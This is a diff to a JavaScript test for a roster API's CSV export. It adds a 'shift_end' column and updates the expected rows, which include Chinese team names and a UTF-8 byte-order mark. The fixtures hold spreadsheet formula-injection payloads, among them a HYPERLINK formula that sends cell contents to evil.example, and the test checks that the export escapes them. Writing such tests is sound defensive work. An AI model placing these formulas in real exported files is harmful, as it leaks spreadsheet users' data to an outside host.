@@ -239,10 +239,10 @@ describe('the roster API', () => {
     // The BOM, so that Excel reads 王芳 as UTF-8 (fetch's text() would drop it).
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const csv = bytes.toString('utf8');
-    expect(csv.startsWith('\uFEFFkind,id,name,team,channel,supervisor,status,time_zone,supervisors\r\n')).toBe(true);
-    expect(csv).toContain(`agent,Evil1,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",north,human,,active,,\r\n`);
-    expect(csv).toContain("agent,Evil2,'@SUM(1+1),'+north,human,,active,,\r\n");
-    expect(csv).toContain('team,north,北区一组,,,,,Asia/Shanghai,wang.sup li.sup\r\n');
+    expect(csv.startsWith('\uFEFFkind,id,name,team,channel,supervisor,status,time_zone,supervisors,shift_end\r\n')).toBe(true);
+    expect(csv).toContain(`agent,Evil1,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",north,human,,active,,,\r\n`);
+    expect(csv).toContain("agent,Evil2,'@SUM(1+1),'+north,human,,active,,,\r\n");
+    expect(csv).toContain('team,north,北区一组,,,,,Asia/Shanghai,wang.sup li.sup,\r\n');
     expect(csv).toContain('"陈静\r\n（夜班）"');
 
     const before = await roster();
